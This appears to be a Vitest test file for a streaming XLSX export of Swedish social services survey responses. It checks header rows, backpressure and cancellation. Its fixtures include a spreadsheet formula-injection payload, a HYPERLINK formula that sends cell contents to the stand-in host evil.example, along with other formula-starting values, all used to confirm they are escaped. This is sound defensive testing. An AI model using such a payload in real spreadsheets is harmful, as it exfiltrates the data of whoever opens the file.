import { buffer } from 'node:stream/consumers';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { TRawCell } from './export-model.js';
import { SV_HEADER } from './test-fixtures.js';
import { responsesXlsxStream } from './xlsx-responses.js';

const COLUMNS = ['Roll', 'F2 Ekonomiska förutsättningar', 'F2 kod', 'F7 Rättssäkerhet', '=F9'];

const ROWS: TRawCell[][] = [
  ['Annan', 'Instämmer helt', 1, '=HYPERLINK("http://evil.example/?d="&A1,"Läs mer")', 'Ja; Nej'],
  ['Socialsekreterare', 'Vet ej', 5, '+46 70 123 45 67', null],
  ['Biståndsbedömare', 'Instämmer inte', 3, '-Budget verkar gå före klientens behov', '@x'],
  ['Annan', 'Instämmer delvis', 2, '\t=1+1', '\r=1+1'],
];

async function* cursor(rows: TRawCell[][]): AsyncGenerator<TRawCell[]> {
  for (const row of rows) yield row;
}

async function readBack(bytes: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  expect(workbook.worksheets.map((w) => w.name)).toEqual(['Svar']);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('No sheet');
  return sheet;
}

function rowValues(sheet: ExcelJS.Worksheet, number: number): unknown[] {
  return (sheet.getRow(number).values as unknown[]).slice(1);
}

describe('raw responses XLSX', () => {
  it('has the header block, the column names, then a row per response in the given order', async () => {
    const sheet = await readBack(
      await buffer(responsesXlsxStream({ header: SV_HEADER, responses: { columns: COLUMNS, rows: cursor(ROWS) } })),
    );
    expect([1, 2, 3, 4, 5].map((n) => rowValues(sheet, n))).toEqual([
      ['Socialtjänstenkäten 2012'],
      ['Omgång', '2012'],
      ['Exportdatum', '2026-11-26'],
      [SV_HEADER.minGroupRule],
      [SV_HEADER.suppressedNote],
    ]);
    expect(rowValues(sheet, 7)).toEqual([...COLUMNS.slice(0, 4), "'=F9"]);
    expect([8, 9, 10, 11].map((n) => rowValues(sheet, n))).toEqual([
      ['Annan', 'Instämmer helt', 1, '\'=HYPERLINK("http://evil.example/?d="&A1,"Läs mer")', 'Ja; Nej'],
      ['Socialsekreterare', 'Vet ej', 5, "'+46 70 123 45 67"],
      ['Biståndsbedömare', 'Instämmer inte', 3, "'-Budget verkar gå före klientens behov", "'@x"],
      // XML readers turn a stored CR into LF; the apostrophe still comes first.
      ['Annan', 'Instämmer delvis', 2, "'\t=1+1", "'\n=1+1"],
    ]);
    expect(sheet.rowCount).toBe(11);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 7 });
  });

  it('contains no formulas and no text that starts one', async () => {
    const sheet = await readBack(
      await buffer(responsesXlsxStream({ header: SV_HEADER, responses: { columns: COLUMNS, rows: ROWS } })),
    );
    let texts = 0;
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value !== 'string') return;
        texts++;
        expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
    expect(texts).toBeGreaterThan(20);
  });

  it('fails the stream when the cursor fails', async () => {
    async function* broken(): AsyncGenerator<TRawCell[]> {
      yield* ROWS;
      throw new Error('cursor closed');
    }
    const stream = responsesXlsxStream({ header: SV_HEADER, responses: { columns: COLUMNS, rows: broken() } });
    await expect(buffer(stream)).rejects.toThrow('cursor closed');
  });

  describe('with 100,000 responses waiting', () => {
    function counted() {
      const state = { pulled: 0, closed: false };
      async function* rows(): AsyncGenerator<TRawCell[]> {
        try {
          for (let i = 0; i < 100_000; i++) {
            state.pulled++;
            // Text that compresses about as badly as real comments do.
            const comment = `kommentar ${((i * 2_654_435_761) % 4_294_967_296).toString(36)} ${(i * 40_503).toString(16)}`;
            yield ['Annan', 'Instämmer delvis', 2, comment, 'Ja; Nej'];
          }
        } finally {
          state.closed = true;
        }
      }
      return { state, rows: rows() };
    }

    it('stops reading the cursor while nobody reads the file', async () => {
      const { state, rows } = counted();
      const stream = responsesXlsxStream({ header: SV_HEADER, responses: { columns: COLUMNS, rows } });
      let seen = -1;
      for (let waited = 0; waited < 5_000 && state.pulled !== seen; waited += 200) {
        seen = state.pulled;
        await new Promise((resolve) => setTimeout(resolve, 200));
      }
      process.stdout.write(`raw XLSX, unread: stopped after ${state.pulled} of 100,000 rows\n`);
      expect(state.pulled).toBe(seen);
      expect(state.pulled).toBeGreaterThan(0);
      expect(state.pulled).toBeLessThan(30_000);
      stream.destroy();
    });

    it('closes the cursor when the download is cancelled', async () => {
      const { state, rows } = counted();
      const stream = responsesXlsxStream({ header: SV_HEADER, responses: { columns: COLUMNS, rows } });
      await new Promise((resolve) => setTimeout(resolve, 100));
      stream.destroy();
      await new Promise((resolve) => setTimeout(resolve, 100));
      expect(state.closed).toBe(true);
      expect(state.pulled).toBeLessThan(100_000);
    });
  });
});
